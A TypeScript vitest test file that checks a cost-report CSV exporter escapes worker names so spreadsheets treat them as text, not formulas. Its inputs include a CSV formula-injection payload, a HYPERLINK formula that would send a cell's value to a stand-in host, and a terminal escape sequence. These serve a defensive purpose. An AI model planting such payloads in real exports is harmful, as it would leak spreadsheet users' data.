import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { nothingSpent } from '../../../src/economics/costs/spent.ts';
import { costsCsv } from '../../../src/report/costs/cost-records.ts';

/** The cells of a name as a spreadsheet reads them. */
function cellOf(worker: string): Readonly<Record<string, string>> {
  const row = { run: 'runs/a', worker, spent: { ...nothingSpent, costUsd: 1.5, samples: -2 } };
  const csv = costsCsv({
    by: 'worker',
    folders: ['runs'],
    since: undefined,
    runs: 1,
    rows: [row],
    total: row.spent,
    notes: [],
    problems: [],
  });
  const [cells = {}, ...others]: Record<string, string>[] = parse(csv, { columns: true });
  expect(others).toEqual([]);
  expect(cells).toMatchObject({ run: 'runs/a', cost_usd: '1.5', samples: '-2' });
  return cells;
}

test.each(['=HYPERLINK("http://x/?"&A1,"ok")', '+1+1', '-2+3', '@SUM(A1)', '  =1+1'])(
  'a worker that is called %s is text in a spreadsheet, not a formula',
  (name) => {
    expect(cellOf(name).worker).toBe(`'${name}`);
  },
);

test('control characters of a name become spaces, also before a formula', () => {
  expect(cellOf('a\u001b[31m\r\nb').worker).toBe('a [31m b');
  expect(cellOf('\t=1').worker).toBe("' =1");
  expect(cellOf('\r=1').worker).toBe("' =1");
});

test.each(['w0', 'a=b', 'gcp/t4-2', 'a "quoted", name'])('a worker that is called %s keeps its name', (name) => {
  expect(cellOf(name).worker).toBe(name);
});
